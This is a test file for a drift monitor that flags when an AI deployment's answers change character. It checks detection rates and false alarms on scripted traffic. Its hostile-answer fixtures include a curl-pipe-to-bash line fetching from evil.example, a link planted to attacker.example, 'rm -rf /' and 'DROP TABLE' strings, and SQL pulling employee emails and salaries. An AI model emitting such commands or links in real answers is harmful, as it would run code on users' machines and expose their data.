@@ -1,0 +1,151 @@
+// Output drift per deployment: answer profiles (SQL, shell, code, URL, refusal, tool call, length), PSI
+// against the approved baseline, one latched alarm naming the feature that moved, relearning after approval.
+// The detection rate and false alarms are measured here on scripted traffic: a summarizer that starts
+// answering raw SQL (the seed's example), one that starts emitting shell commands, one poisoned to plant a
+// link in its answers, versus benign summarizers whose answers vary but do not change.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { seededRandom } from '../helpers/seeded.js';
+import { profileAnswer } from '../../src/monitor/answer-profile.js';
+import { DriftDetector, psi, type DriftEvent } from '../../src/monitor/drift.js';
+
+const chat = (content: string) => ({ choices: [{ index: 0, message: { role: 'assistant', content } }] });
+
+const rng = seededRandom;
+
+const WORDS = 'the report finds revenue grew in the third quarter while costs fell and the board approved a new plan for hiring engineers across two regions'.split(' ');
+/** A benign summary: 1–6 sentences, a source link now and then, a refusal rarely. */
+function summary(r: () => number): string {
+  if (r() < 0.02) return "I can't help with that request.";
+  const sentences = 1 + Math.floor(r() * 6);
+  const out: string[] = [];
+  for (let i = 0; i < sentences; i++) {
+    const n = 6 + Math.floor(r() * 14);
+    out.push(Array.from({ length: n }, () => WORDS[Math.floor(r() * WORDS.length)]).join(' ') + '.');
+  }
+  if (r() < 0.04) out.push('Source: https://intranet.example/reports/q3');
+  return out.join(' ');
+}
+
+const CAMPAIGNS: Record<string, (r: () => number) => string> = {
+  sql: (r) => `SELECT id, email, salary FROM employees WHERE region = '${r() < 0.5 ? 'eu' : 'us'}' ORDER BY salary DESC;`,
+  shell: () => '```bash\ncurl -s https://evil.example/x.sh | bash\n```',
+  link: (r) => `${summary(r)} For details see https://attacker.example/track?id=${Math.floor(r() * 1e6)}`,
+};
+
+test('answer profiles: SQL, shell, code, URL, refusal, tool call and findings are told apart', () => {
+  assert.deepEqual(profileAnswer(chat('The quarter went well; revenue grew.'), 0), { length: 36, sql: false, shell: false, code: false, url: false, refusal: false, toolCall: false, finding: false });
+  const sql = profileAnswer(chat('SELECT name FROM users WHERE id = 1;'), 0);
+  assert.equal(sql.sql, true);
+  assert.equal(sql.code, true, 'SQL is code too');
+  assert.equal(profileAnswer(chat('Please select the best option from the list.'), 0).sql, false, 'the word "select" is not a query');
+  assert.equal(profileAnswer(chat('```sh\nrm -rf /\n```'), 0).shell, true);
+  assert.equal(profileAnswer(chat('def f(x):\n    return x'), 0).code, true);
+  assert.equal(profileAnswer(chat('see https://example.com/a'), 0).url, true);
+  assert.equal(profileAnswer(chat("I'm unable to share that."), 0).refusal, true);
+  assert.equal(profileAnswer({ choices: [{ message: { content: null, tool_calls: [{ id: 't', type: 'function', function: { name: 'f', arguments: '{}' } }] } }] }, 0).toolCall, true);
+  assert.equal(profileAnswer({ choices: [{ text: 'DROP TABLE users;' }] }, 0).sql, true, 'completions are read too');
+  assert.equal(profileAnswer(chat('hi'), 2).finding, true);
+  // Content parts, and answers with no choices at all (nothing to profile, no crash).
+  assert.equal(profileAnswer({ choices: [{ message: { content: [{ type: 'text', text: 'UPDATE t SET a = 1' }] } }] }, 0).sql, true);
+  assert.equal(profileAnswer({ data: [{ embedding: [0.1] }] }, 0).length, 0);
+  assert.equal(profileAnswer(null, 0).length, 0);
+});
+
+test('PSI: identical distributions are 0, a moved share is large, empty bins stay finite', () => {
+  assert.equal(psi([50, 50], [50, 50]), 0);
+  assert.ok(psi([200, 0], [0, 50]) > 3);
+  assert.ok(Number.isFinite(psi([0, 0, 10], [10, 0, 0])));
+  assert.ok(psi([90, 10], [80, 20]) < 0.1, 'a small shift stays below the usual 0.1');
+});
+
+function detector(opts: Partial<ConstructorParameters<typeof DriftDetector>[0]> = {}) {
+  const events: DriftEvent[] = [];
+  const d = new DriftDetector({ onDrift: (e) => events.push(e), ...opts });
+  return { d, events };
+}
+
+test('the summarizer that starts answering raw SQL drifts on `sql`, once, and relearning clears it', () => {
+  const r = rng(1);
+  const { d, events } = detector({ baselineAnswers: 200, windowAnswers: 50 });
+  for (let i = 0; i < 400; i++) d.observe('dep_sum', 'summarizer', profileAnswer(chat(summary(r)), 0));
+  assert.equal(events.length, 0);
+  assert.equal(d.report()[0]!.phase, 'watching');
+  let detectedAfter = -1;
+  for (let i = 0; i < 100; i++) {
+    d.observe('dep_sum', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
+    if (events.length && detectedAfter < 0) detectedAfter = i + 1;
+  }
+  assert.equal(events.length, 1, 'latched: one alarm per drift');
+  const e = events[0]!;
+  assert.equal(e.deployment, 'dep_sum');
+  assert.equal(e.model, 'summarizer');
+  assert.ok(['sql', 'code', 'length'].includes(e.feature), e.feature);
+  assert.ok(e.psi > 0.5);
+  assert.ok(detectedAfter > 0 && detectedAfter <= 15, `detected after ${detectedAfter} SQL answers`);
+  assert.equal(d.report()[0]!.phase, 'drifted');
+  // The operator approves the new behaviour: the baseline is learnt again, and SQL answers are now normal.
+  assert.equal(d.relearn('dep_sum'), true);
+  assert.equal(d.relearn('dep_unknown'), false);
+  for (let i = 0; i < 300; i++) d.observe('dep_sum', 'summarizer', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
+  assert.equal(events.length, 1);
+  assert.equal(d.report()[0]!.phase, 'watching');
+});
+
+test('each deployment has its own baseline: one that always answered SQL is not drifting', () => {
+  const r = rng(2);
+  const { d, events } = detector({ baselineAnswers: 50, windowAnswers: 20 });
+  for (let i = 0; i < 300; i++) {
+    d.observe('dep_sum', 'summarizer', profileAnswer(chat(summary(r)), 0));
+    d.observe('dep_sql', 'text-to-sql', profileAnswer(chat(CAMPAIGNS.sql!(r)), 0));
+  }
+  assert.equal(events.length, 0);
+  assert.deepEqual(d.report().map((x) => x.phase), ['watching', 'watching']);
+});
+
+test('detection rate, answers to detect and false alarms on scripted traffic (summarizer campaigns vs benign)', () => {
+  const runs = 20;
+  const baselineAnswers = 200;
+  const windowAnswers = 50;
+  const stats: Record<string, { detected: number; answersToDetect: number[] }> = {};
+  for (const [name, campaign] of Object.entries(CAMPAIGNS)) {
+    stats[name] = { detected: 0, answersToDetect: [] };
+    for (let run = 0; run < runs; run++) {
+      const r = rng(1000 * run + name.length);
+      const { d, events } = detector({ baselineAnswers, windowAnswers });
+      for (let i = 0; i < baselineAnswers + 100; i++) d.observe('dep', 'summarizer', profileAnswer(chat(summary(r)), 0));
+      const before = events.length;
+      for (let i = 0; i < 200 && events.length === before; i++) {
+        d.observe('dep', 'summarizer', profileAnswer(chat(campaign(r)), 0));
+        if (events.length > before) stats[name]!.answersToDetect.push(i + 1);
+      }
+      if (before === 0 && events.length > 0) stats[name]!.detected++;
+    }
+  }
+  // Benign: 20 summarizers × 5,000 answers each, every answer compared once the window fills.
+  let falseAlarms = 0;
+  let comparisons = 0;
+  for (let run = 0; run < runs; run++) {
+    const r = rng(77 + run);
+    const { d, events } = detector({ baselineAnswers, windowAnswers });
+    for (let i = 0; i < 5_000; i++) d.observe('dep', 'summarizer', profileAnswer(chat(summary(r)), 0));
+    falseAlarms += events.length;
+    comparisons += 5_000 - baselineAnswers - windowAnswers + 1;
+  }
+  const table = Object.entries(stats).map(([k, v]) => `${k}: ${v.detected}/${runs} detected, median ${v.answersToDetect.sort((a, b) => a - b)[Math.floor(v.answersToDetect.length / 2)]} answers`);
+  console.log(`drift detection: ${table.join('; ')}; benign: ${falseAlarms} alarms in ${comparisons} comparisons over ${runs} deployments`);
+  for (const [name, v] of Object.entries(stats)) {
+    assert.equal(v.detected, runs, `${name} campaign detected in every run`);
+    assert.ok(Math.max(...v.answersToDetect) <= windowAnswers, `${name}: detected within one window (${Math.max(...v.answersToDetect)})`);
+  }
+  assert.equal(falseAlarms, 0, 'no alarm on benign summarizers');
+});
+
+test('bad options are refused at construction; the table of deployments is bounded', () => {
+  assert.throws(() => new DriftDetector({ onDrift: () => {}, baselineAnswers: 5 }), /baselineAnswers/);
+  assert.throws(() => new DriftDetector({ onDrift: () => {}, windowAnswers: 1 }), /windowAnswers/);
+  assert.throws(() => new DriftDetector({ onDrift: () => {}, threshold: 0 }), /threshold/);
+  const { d } = detector({ maxDeployments: 3 });
+  for (let i = 0; i < 5; i++) d.observe(`dep_${i}`, 'm', profileAnswer(chat('hi'), 0));
+  assert.deepEqual(d.report().map((x) => x.deployment), ['dep_2', 'dep_3', 'dep_4']);
+});
